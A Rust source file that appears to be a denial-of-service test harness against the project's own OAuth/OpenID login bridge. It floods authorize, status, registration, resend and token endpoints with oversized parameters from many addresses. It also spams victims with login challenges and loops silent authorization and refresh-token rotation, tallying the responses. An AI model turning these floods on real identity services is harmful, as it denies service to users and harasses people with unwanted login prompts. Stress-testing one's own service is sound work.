//! The attacks on the bridge's HTTP surface. Each runs its workers until
//! the deadline and counts every answer by step and HTTP status.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use futures::future::join_all;
use serde_json::{Value, json};

use crate::World;
use crate::common::{REDIRECT, query};
use crate::flow::{
    self, Site, Target, auth_url, browser, enc, loc, open, pkce, plain, reason, start,
    status_label, transport,
};
use crate::tally::{Tally, filler, ip, until};

/// Concurrent requests of a flood.
const WORKERS: usize = 32;

/// `GET /authorize` with every optional parameter the bridge stores at its
/// longest (4096 characters each), from 512 addresses.
pub async fn authorize(w: Arc<World>, deadline: Instant, tally: Arc<Tally>) {
    let clients: Arc<Vec<reqwest::Client>> =
        Arc::new((0..512).map(|i| plain(ip(100, i))).collect());
    let long = 4096;
    let claims_pad = long - r#"{"userinfo":{"x":{"value":""}}}"#.len();
    let tasks = (0..WORKERS).map(|wk| {
        let (clients, w, tally) = (clients.clone(), w.clone(), tally.clone());
        tokio::spawn(async move {
            until(deadline, |n| {
                let c = clients[(wk + WORKERS * n as usize) % clients.len()].clone();
                let claims = format!(r#"{{"userinfo":{{"x":{{"value":"{}"}}}}}}"#, filler(claims_pad));
                let url = format!(
                    "{}?client_id={}&redirect_uri={}&response_type=code&scope=openid&state={}&nonce={}&login_hint={}&acr_values={}&claims={}&code_challenge={}&code_challenge_method=S256",
                    w.t.url("/authorize"),
                    w.site.id,
                    enc(REDIRECT),
                    filler(long),
                    filler(long),
                    filler(long),
                    filler(long),
                    enc(&claims),
                    filler(128),
                );
                let tally = tally.clone();
                async move {
                    let r = c.get(url).send().await;
                    tally.request(status_label("authorize", &r));
                }
            })
            .await;
        })
    });
    join_all(tasks).await;
}

/// Opens one interaction in `c`, retrying (and counting) until it works or
/// the attack ends.
async fn interaction(
    t: &Target,
    site: &Site,
    c: &reqwest::Client,
    deadline: Instant,
    tally: &Tally,
) -> Option<String> {
    while Instant::now() < deadline {
        let p = pkce();
        match open(c, &auth_url(t, &site.id, &p.challenge, "")).await {
            Ok(ix) => {
                tally.request("setup: authorize 303");
                return Some(ix);
            }
            Err(e) => {
                tally.request(format!("setup: {e}"));
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        }
    }
    None
}

/// Reproduced attack 2: one interaction cookie per address, then status
/// requests for random, long (4096-character) challenge ids.
pub async fn status(w: Arc<World>, deadline: Instant, tally: Arc<Tally>) {
    let tasks = (0..64).map(|wk| {
        let (w, tally) = (w.clone(), tally.clone());
        tokio::spawn(async move {
            let c = browser(ip(110, wk));
            let Some(ix) = interaction(&w.t, &w.site, &c, deadline, &tally).await else {
                return;
            };
            until(deadline, |_| {
                let url = w.t.url(&format!("{ix}/challenge/{}/status", filler(4096)));
                let (c, tally) = (c.clone(), tally.clone());
                async move {
                    let r = c.get(url).send().await;
                    tally.request(status_label("status", &r));
                }
            })
            .await;
        })
    });
    join_all(tasks).await;
}

/// Client metadata near the body limit (64 KiB): 13 + 13 long redirect and
/// post-logout URIs, long site URIs, 10 contacts, a long scope list.
fn big_metadata() -> Value {
    json!({
        "redirect_uris": (0..13).map(|_| format!("{REDIRECT}/{}", filler(1950))).collect::<Vec<_>>(),
        "post_logout_redirect_uris": (0..13).map(|_| format!("http://127.0.0.1:9/bye/{}", filler(1950))).collect::<Vec<_>>(),
        "grant_types": ["authorization_code", "refresh_token"],
        "client_name": format!("Siege {}", filler(120)),
        "client_uri": format!("https://siege.example/{}", filler(950)),
        "logo_uri": format!("https://siege.example/{}", filler(950)),
        "policy_uri": format!("https://siege.example/{}", filler(950)),
        "tos_uri": format!("https://siege.example/{}", filler(950)),
        "contacts": (0..10).map(|_| format!("{}@siege.example", filler(240))).collect::<Vec<_>>(),
        "scope": (0..100).map(|_| filler(9)).collect::<Vec<_>>().join(" "),
    })
}

/// `POST /register` (dynamic registration is on by default) with large
/// metadata, from 256 addresses.
pub async fn register(w: Arc<World>, deadline: Instant, tally: Arc<Tally>) {
    let size = serde_json::to_vec(&big_metadata()).unwrap().len();
    tally.note(format!("each registration body: {size} bytes"));
    let clients: Arc<Vec<reqwest::Client>> =
        Arc::new((0..256).map(|i| plain(ip(120, i))).collect());
    let tasks = (0..WORKERS).map(|wk| {
        let (clients, w, tally) = (clients.clone(), w.clone(), tally.clone());
        tokio::spawn(async move {
            until(deadline, |n| {
                let c = clients[(wk + WORKERS * n as usize) % clients.len()].clone();
                let body = serde_json::to_vec(&big_metadata()).unwrap();
                let (url, tally) = (w.t.url("/register"), tally.clone());
                async move {
                    let r = c
                        .post(url)
                        .header("content-type", "application/json")
                        .body(body)
                        .send()
                        .await;
                    tally.request(status_label("register", &r));
                }
            })
            .await;
        })
    });
    join_all(tasks).await;
}

/// The targeted login denial: strangers at 256 addresses keep starting
/// logins for the people's egos (solving the proof of work when asked, on
/// one core at most). The people's agents show those challenges and
/// ignore them.
pub async fn login_victim(w: Arc<World>, deadline: Instant, tally: Arc<Tally>) {
    let tasks = (0..WORKERS).map(|wk| {
        let (w, tally) = (w.clone(), tally.clone());
        tokio::spawn(async move {
            let clients: Vec<reqwest::Client> =
                (0..8).map(|k| browser(ip(130, wk * 8 + k))).collect();
            until(deadline, |n| {
                let c = clients[n as usize % clients.len()].clone();
                let victim = w.people[(wk + n as usize) % w.people.len()].ego.clone();
                let (w, tally) = (w.clone(), tally.clone());
                async move {
                    let p = pkce();
                    let label = match open(&c, &auth_url(&w.t, &w.site.id, &p.challenge, "")).await
                    {
                        Err(e) => e,
                        Ok(ix) => match start(&w.t, &c, &ix, &victim, Some(&w.gate)).await {
                            Ok(_) => "ego 303 (a challenge sent to the victim)".into(),
                            Err(e) => e,
                        },
                    };
                    tally.request(label);
                }
            })
            .await;
        })
    });
    join_all(tasks).await;
}

/// `POST /interaction/{id}/resend` floods: 64 addresses, each with one
/// login started for one of the attacker's silent egos (an agent that never
/// answers), resending as fast as the bridge answers.
pub async fn resend(w: Arc<World>, deadline: Instant, tally: Arc<Tally>) {
    let silent: Vec<String> = w.mallory.egos[1..].to_vec();
    let tasks = (0..64).map(|wk| {
        let (w, tally) = (w.clone(), tally.clone());
        let ego = silent[wk % silent.len()].clone();
        tokio::spawn(async move {
            let c = browser(ip(140, wk));
            let st = loop {
                if Instant::now() >= deadline {
                    return;
                }
                let Some(ix) = interaction(&w.t, &w.site, &c, deadline, &tally).await else {
                    return;
                };
                match start(&w.t, &c, &ix, &ego, Some(&w.gate)).await {
                    Ok(st) => {
                        tally.request("setup: ego 303");
                        break st;
                    }
                    Err(e) => {
                        tally.request(format!("setup: {e}"));
                        tokio::time::sleep(Duration::from_secs(1)).await;
                    }
                }
            };
            let cid = Arc::new(Mutex::new(
                st.wait.rsplit('/').next().unwrap_or_default().to_string(),
            ));
            until(deadline, |_| {
                let (c, tally, cid) = (c.clone(), tally.clone(), cid.clone());
                let url = w.t.url(&format!("{}/resend", st.ix));
                let csrf = st.csrf.clone();
                async move {
                    let current = cid.lock().unwrap().clone();
                    let r = c
                        .post(url)
                        .form(&[("csrf", csrf.as_str()), ("challenge_id", current.as_str())])
                        .send()
                        .await;
                    match r {
                        Ok(r) if r.status() == 303 => {
                            if let Some(l) = loc(&r)
                                && let Some(new) = l.rsplit('/').next()
                            {
                                *cid.lock().unwrap() = new.to_string();
                            }
                            tally.request("resend 303 (a new challenge)");
                        }
                        Ok(r) => {
                            let s = r.status().as_u16();
                            let body = r.text().await.unwrap_or_default();
                            tally.request(format!("resend {s} ({})", reason(&body)));
                        }
                        Err(e) => tally.request(transport("resend", &e)),
                    }
                }
            })
            .await;
        })
    });
    join_all(tasks).await;
}

/// The attacker's own ego logs in to `site` in a browser at `at`.
async fn mallory_login(
    w: &World,
    at: usize,
    site: &Site,
) -> Result<(reqwest::Client, Value), String> {
    let addr = ip(150, at);
    let c = browser(addr);
    let ego = w.mallory.egos[0].clone();
    flow::login(&w.t, &c, addr, site, &ego, Some(&w.mallory))
        .await
        .map(|(_, v)| (c, v))
}

/// `GET /authorize?prompt=none` with a live session: where it redirects.
async fn silent_authorize(
    t: &Target,
    c: &reqwest::Client,
    site: &Site,
    challenge: &str,
) -> Result<String, String> {
    let r = c
        .get(auth_url(t, &site.id, challenge, "&prompt=none"))
        .send()
        .await
        .map_err(|e| transport("authorize", &e))?;
    let s = r.status().as_u16();
    match loc(&r) {
        Some(l) if s == 303 && l.starts_with(REDIRECT) => match query(&l).get("code") {
            Some(code) => Ok(code.clone()),
            None => Err(format!(
                "authorize 303 error={}",
                query(&l).get("error").cloned().unwrap_or_default()
            )),
        },
        _ => Err(format!("authorize {s}")),
    }
}

/// The attacker logs in once with its own auto-approving ego, then loops
/// `GET /authorize?prompt=none` with its session cookie: each answer is a
/// new grant and code.
pub async fn prompt_none(w: Arc<World>, deadline: Instant, tally: Arc<Tally>) {
    let c = match mallory_login(&w, 0, &w.evil).await {
        Ok((c, _)) => c,
        Err(e) => {
            tally.note(format!("NOT MOUNTED: the attacker's own login failed: {e}"));
            return;
        }
    };
    let tasks = (0..16).map(|_| {
        let (w, tally, c) = (w.clone(), tally.clone(), c.clone());
        tokio::spawn(async move {
            until(deadline, |_| {
                let (w, tally, c) = (w.clone(), tally.clone(), c.clone());
                async move {
                    let p = pkce();
                    match silent_authorize(&w.t, &c, &w.evil, &p.challenge).await {
                        Ok(_) => tally.request("authorize 303 (a code)"),
                        Err(e) => tally.request(e),
                    }
                }
            })
            .await;
        })
    });
    join_all(tasks).await;
}

/// A new refresh token: `prompt=none` and a code exchange.
async fn new_chain(t: &Target, c: &reqwest::Client, site: &Site) -> Result<String, String> {
    let p = pkce();
    let code = silent_authorize(t, c, site, &p.challenge).await?;
    let v = flow::exchange(t, c, site, &code, &p.verifier).await?;
    v["refresh_token"]
        .as_str()
        .map(str::to_string)
        .ok_or_else(|| "no refresh token".into())
}

/// A site of the attacker's own (registered like any other) with refresh
/// tokens for the attacker's ego: 8 refresh chains, each looping the
/// refresh grant as fast as the bridge answers (every refresh rotates the
/// token and writes to the database).
pub async fn refresh(w: Arc<World>, deadline: Instant, tally: Arc<Tally>) {
    let (c, first) = match mallory_login(&w, 1, &w.evil).await {
        Ok(x) => x,
        Err(e) => {
            tally.note(format!("NOT MOUNTED: the attacker's own login failed: {e}"));
            return;
        }
    };
    let Some(first) = first["refresh_token"].as_str().map(str::to_string) else {
        tally.note("NOT MOUNTED: the bridge issued no refresh token");
        return;
    };
    let mut chains = vec![first];
    for _ in 1..8 {
        match new_chain(&w.t, &c, &w.evil).await {
            Ok(r) => chains.push(r),
            Err(e) => tally.note(format!("a refresh chain could not be opened: {e}")),
        }
    }
    let tasks = chains.into_iter().map(|token| {
        let (w, tally, c) = (w.clone(), tally.clone(), c.clone());
        let current = Arc::new(Mutex::new(token));
        tokio::spawn(async move {
            until(deadline, |_| {
                let (w, tally, c, current) = (w.clone(), tally.clone(), c.clone(), current.clone());
                async move {
                    let token = current.lock().unwrap().clone();
                    let r = c
                        .post(w.t.url("/token"))
                        .basic_auth(&w.evil.id, Some(&w.evil.secret))
                        .form(&[
                            ("grant_type", "refresh_token"),
                            ("refresh_token", token.as_str()),
                        ])
                        .send()
                        .await;
                    match r {
                        Ok(r) if r.status() == 200 => {
                            let v: Value = r.json().await.unwrap_or_default();
                            match v["refresh_token"].as_str() {
                                Some(next) => {
                                    *current.lock().unwrap() = next.to_string();
                                    tally.request("token 200");
                                }
                                None => tally.request("token 200 without a refresh token"),
                            }
                        }
                        other => {
                            tally.request(status_label("token", &other));
                            match new_chain(&w.t, &c, &w.evil).await {
                                Ok(next) => *current.lock().unwrap() = next,
                                Err(e) => {
                                    tally.event(format!("new chain failed: {e}"));
                                    tokio::time::sleep(Duration::from_millis(200)).await;
                                }
                            }
                        }
                    }
                }
            })
            .await;
        })
    });
    join_all(tasks).await;
}
